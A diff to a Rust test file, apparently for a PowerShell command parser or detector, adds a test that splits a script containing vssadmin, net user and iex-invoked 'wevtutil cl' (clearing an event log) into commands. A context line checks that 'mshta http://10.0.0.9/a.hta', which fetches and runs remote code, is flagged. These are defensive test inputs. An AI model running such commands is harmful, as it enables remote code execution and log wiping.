@@ -15,6 +15,17 @@ fn commands_of_a_script() {
         ]
     );
     assert_eq!(commands("").count(), 0);
+    let script = "$a = vssadmin list; Start-Process -FilePath net -ArgumentList 'user'; iex 'wevtutil cl x'; $a -eq $b";
+    let found: Vec<_> = commands(script).collect();
+    assert_eq!(
+        found,
+        [
+            "vssadmin list",
+            "net -ArgumentList 'user'",
+            "'wevtutil cl x'",
+            "$a -eq $b"
+        ]
+    );
     assert!(runs_other_code(r"& 'C:\Users\Public\a b.ps1' -x"));
     assert!(runs_other_code(r"C:\Users\Public\a.ps1"));
     assert!(runs_other_code("mshta http://10.0.0.9/a.hta"));
